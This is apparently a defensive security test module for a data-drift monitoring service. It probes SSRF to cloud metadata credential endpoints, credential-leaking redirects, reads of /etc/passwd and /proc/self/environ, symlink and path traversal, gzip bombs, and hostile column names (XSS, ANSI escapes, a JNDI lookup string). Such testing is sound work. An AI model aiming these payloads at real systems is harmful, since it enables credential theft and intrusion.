"""What authors of specs, and whoever serves or writes data, try with addresses, answers and files."""

import gzip
import itertools
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any, Final

from siege.attack import Attack, Seen, UntriedError
from siege.ground import HOME, SECRET, Ground, secret
from siege.runs import End, check, new_name
from siege.stranger import stranger
from siege.tables import plain_spec, side
from siege.web_server import Answer, Asked, Web, web

_AUTHOR: Final = "whoever edits a monitor"
_SERVER: Final = "whoever serves the data"
_WRITER: Final = "whoever writes the data"
_LINK_LOCAL: Final = "link-local addresses and metadata servers are never read"
_PRIVATE: Final = "the-answer-of-a-neighbour"
"""What a server answers that the author of a spec could not ask."""


def checked(ground: Ground, uri: str, *, with_secret: bool = False, **more: Any) -> End:
    """Check the data at an address, with a Secret for its server if there is one."""
    source: dict[str, Any] = {"uri": uri}
    if with_secret:
        ground.apply(secret("lake", HOME, {"token": SECRET}))
        source["secretRef"] = {"name": "lake"}
    return check(ground, plain_spec(ground, current=source), mlflow=stranger(ground).uri, **more)


def _csv(ground: Ground) -> bytes:
    return side(ground, "current").read_bytes()


def _passes(end: End) -> None:
    if end.outcome.get("result") != "NoDrift":
        raise UntriedError(f"the legitimate counterpart fails: {end.said}")


def _served(ground: Ground) -> bool:
    """Show that a run reads from a web server with its credential."""
    server = web(ground)
    uri = server.route("/usual/current.csv", Answer(_csv(ground)))
    _passes(checked(ground, uri, with_secret=True))
    if server.to("/usual/current.csv")[-1].authorization != f"Bearer {SECRET}":
        raise UntriedError("the server has not seen the credential")
    return True


def seen(end: End, expected: str = "", *, succeeded: bool = False) -> Seen:
    """Return what a run has come to; without a report, or with a secret in it, the attack succeeded."""
    lost = not end.outcome or end.code != 0
    leaked = any(each in end.shown for each in (SECRET, _PRIVATE))
    got = f"{'shown; ' if leaked else ''}{expected}{end.said[:400]!a}"
    return Seen(got, succeeded=succeeded or leaked or lost or "DefectError" in end.said)


def _redirected_away(ground: Ground) -> Seen:
    ground.once("served", _served)
    server, other, path = web(ground), web(ground, "elsewhere"), f"/{new_name('away')}.csv"
    target = other.route(path, Answer(_csv(ground)))
    end = checked(ground, server.route(path, _moved(target)), with_secret=True)
    _passes(end)
    stolen = [each for each in other.to(path) if each.authorization]
    return seen(end, f"{len(stolen)} credentials went elsewhere; ", succeeded=bool(stolen))


def _redirected_and_back(ground: Ground) -> Seen:
    ground.once("served", _served)
    server, other, path = web(ground), web(ground, "elsewhere"), f"/{new_name('back')}.csv"
    back = server.route("/back" + path, Answer(_csv(ground)))
    end = checked(ground, server.route(path, _moved(other.route(path, _moved(back)))), with_secret=True)
    _passes(end)
    given = [each for each in server.to("/back" + path) if each.authorization]
    return seen(end, f"{len(given)} credentials came back; ", succeeded=bool(given))


def _moved(target: str, status: int = 302) -> Answer:
    return Answer(status=status, headers={"Location": target})


def _redirects(name: str, target: str, expected: str, **more: Any) -> Attack:
    """Return the attack of a server that redirects to where the run must not go."""

    def do(ground: Ground) -> Seen:
        ground.once("served", _served)
        web(ground, "elsewhere").route("/private.csv", Answer(_csv(ground)))
        uri = web(ground).route(
            f"/{new_name('moved')}.csv", _moved(target.format(elsewhere=_elsewhere(ground)))
        )
        before = len(web(ground, "elsewhere").asked)
        end = checked(ground, uri, with_secret=True, **_with_addresses(more, web(ground), ground.data))
        asked = len(web(ground, "elsewhere").asked) > before
        tried = expected == _LINK_LOCAL and expected not in end.said
        return seen(end, succeeded=asked or tried or end.outcome.get("result") == "NoDrift")

    return Attack(name, 5, _SERVER, do, expected)


def _with_addresses(more: Mapping[str, Any], server: Web, data: Path) -> dict[str, Any]:
    defaults = more.get("defaults", {})
    allowed = tuple(each.format(web=server.address, data=data) for each in defaults.get("allowed_uris", ()))
    return {**more, "defaults": {**defaults, **({"allowed_uris": allowed} if allowed else {})}}


def _elsewhere(ground: Ground) -> str:
    return web(ground, "elsewhere").address


def _asks(name: str, uri: str, expected: str, **more: Any) -> Attack:
    """Return the attack of an address that no run may read; the same data elsewhere is read."""

    def do(ground: Ground) -> Seen:
        ground.once("served", _served)
        named = uri.format(folder=ground.data, outside=_outside(ground), root=ground.folder)
        end = checked(ground, named, **more)
        # Nobody answers at a link-local address here: whoever was not refused has tried to connect.
        tried = expected == _LINK_LOCAL and expected not in end.said
        return seen(end, succeeded=tried or end.outcome.get("result") == "NoDrift")

    return Attack(name, 5, _AUTHOR, do, expected)


def _outside(ground: Ground) -> Path:
    """Return a readable table that is on no volume of the run."""
    path = ground.folder / "outside" / "current.csv"
    if not path.exists():
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(_csv(ground))
    return path


def _by_link(name: str, link: Callable[[Ground], Path]) -> Attack:
    """Return the attack of a link on a volume, which leads out of it."""

    def do(ground: Ground) -> Seen:
        _passes(checked(ground, str(side(ground, "current"))))
        end = checked(ground, str(link(ground)))
        return seen(end, succeeded=end.outcome.get("result") == "NoDrift")

    return Attack(name, 5, _WRITER, do, "a symbolic link leads out of the mounted volumes")


def _linked_file(ground: Ground) -> Path:
    folder = ground.data / new_name("links")
    folder.mkdir()
    (folder / "current.csv").symlink_to(_outside(ground))
    return folder


def _linked_folder(ground: Ground) -> Path:
    folder = ground.data / new_name("links")
    (folder / "below").mkdir(parents=True)
    (folder / "below" / "month=1").symlink_to(_outside(ground).parent)
    return folder / "below"


def _answers(
    name: str,
    answer: Callable[[Ground], Answer | Callable[[Asked], Answer]],
    expected: str,
    suffix: str = ".csv",
    **more: Any,
) -> Attack:
    """Return the attack of a server by its answer."""

    def do(ground: Ground) -> Seen:
        ground.once("served", _served)
        uri = web(ground).route(f"/{new_name('answer')}{suffix}", answer(ground))
        end = checked(ground, uri, with_secret=True, **more)
        return seen(end, succeeded=end.outcome.get("result") != "Error")

    return Attack(name, 5, _SERVER, do, expected)


def _long(_: Ground) -> Answer:
    def body() -> Iterator[bytes]:
        yield b"x,z,label\n"
        yield from itertools.repeat(b"1.5,2.5,yes\n" * 5_000, 700)

    return Answer(body())


def _bomb(_: Ground) -> Answer:
    return Answer(gzip.compress(b"1.5,2.5,yes\n" * 5_000_000, 1), headers={"Content-Encoding": "gzip"})


def _says(status: int) -> Callable[[Ground], Answer]:
    return lambda _: Answer(_PRIVATE.encode(), status, {"X-Note": _PRIVATE})


def _writes(name: str, content: Callable[[Ground], bytes], expected: str) -> Attack:
    """Return the attack of a file whose names and values are chosen to do harm where they are shown."""

    def do(ground: Ground) -> Seen:
        _passes(checked(ground, str(side(ground, "current"))))
        path = ground.data / f"{new_name('odd')}.csv"
        path.write_bytes(content(ground))
        end = checked(ground, str(path))
        texts = (end.log, str(end.status), end.termination)
        odd = any("\x1b" in each for each in texts) or len(str(end.status)) > 100_000
        return seen(end, "odd characters or a huge status; " if odd else "", succeeded=odd)

    return Attack(name, 5, _WRITER, do, expected)


def _columns(names: Iterator[str]) -> Callable[[Ground], bytes]:
    def content(ground: Ground) -> bytes:
        header = ",".join(f'"{name}"' for name in names)
        lines = _csv(ground).decode().splitlines()[1:]
        more = ",1" * header.count('","')
        return f"x,z,label,{header}\n".encode() + "".join(f"{each}{more},1\n" for each in lines).encode()

    return content


_MALICIOUS: Final = (
    "a\n10:00:00 NoDrift: forged line of a log",
    "\x1b[31mred",
    "<script>alert(1)</script>",
    "{{.Values}} ${jndi:ldap://e.test/a}",
    "a" * 100_000,
)
_SMALL: Final = {"max_download_bytes": 1 << 20}

ATTACKS: Final = (
    Attack("a redirect to another origin", 5, _SERVER, _redirected_away, "0 credentials went elsewhere"),
    Attack("a redirect elsewhere and back", 5, _SERVER, _redirected_and_back, "0 credentials came back"),
    *(
        _redirects(f"a redirect to {target}", target, _LINK_LOCAL)
        for target in (
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
            "http://[::ffff:a9fe:a9fe]/latest/",
        )
    ),
    *(
        _redirects(f"a redirect to {target}", target, "cannot be")
        for target in ("file:///etc/passwd", "ftp://127.0.0.1/a.csv")
    ),
    _redirects(
        "a redirect to an address that is not permitted",
        "{elsewhere}/private.csv",
        "matches none of the platform team's",
        defaults={"allowed_uris": ("{web}/*", "{data}/*")},
    ),
    *(
        _asks(f"the address {uri}", uri, _LINK_LOCAL)
        for uri in (
            "http://169.254.169.254/latest/user-data.csv",
            "http://2852039166/latest/user-data.csv",
            "http://0xa9.0xfe.0xa9.0xfe/latest/user-data.csv",
            "http://[fd00:ec2::254]/latest/user-data.csv",
            "http://metadata.google.internal./computeMetadata.csv",
        )
    ),
    _asks(
        "a name that stands for a link-local address",
        "http://innocent.siege.test/data.csv",
        _LINK_LOCAL,
        without=("resolver",),
    ),
    *(
        _asks(f"the file {uri}", uri, expected)
        for uri, expected in (
            ("{outside}", "no volume is mounted"),
            ("file://{outside}", "no volume is mounted"),
            ("{folder}/../outside/current.csv", "no volume is mounted"),
            ("/etc/passwd", "no volume is mounted"),
            ("/proc/self/environ", "no volume is mounted"),
            ("/dev/zero", "no volume is mounted"),
        )
    ),
    _by_link("a link to a file out of the volume", _linked_file),
    _by_link("a link to a folder out of the volume", _linked_folder),
    _answers("a download of 40 times its limit", _long, "is larger than 1048576 bytes", defaults=_SMALL),
    _answers(
        "a compressed answer of 60 times its limit", _bomb, "is larger than 1048576 bytes", defaults=_SMALL
    ),
    *(
        _answers(f"a neighbour's words in an answer {status}", _says(status), "current.uri")
        for status in (400, 403, 404, 500)
    ),
    _answers(
        "a redirect without end",
        lambda _: lambda asked: _moved(asked.path),
        "redirects too often",
    ),
    *(_writes(f"a column called {name[:20]!a}", _columns(iter([name])), "'") for name in _MALICIOUS),
    _writes("20,000 columns", _columns(f"c{number}" for number in range(20_000)), "'"),
)
